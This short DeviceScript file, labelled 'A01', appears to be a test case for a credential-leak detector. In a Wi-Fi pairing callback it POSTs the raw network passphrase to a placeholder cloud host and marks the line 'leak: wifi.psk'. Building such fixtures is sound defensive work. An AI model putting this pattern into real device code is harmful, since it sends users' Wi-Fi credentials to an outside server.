// A01: the passphrase as it is, in the body of a request.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = psk;
  const response = await fetch("https://cloud.example/a01", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
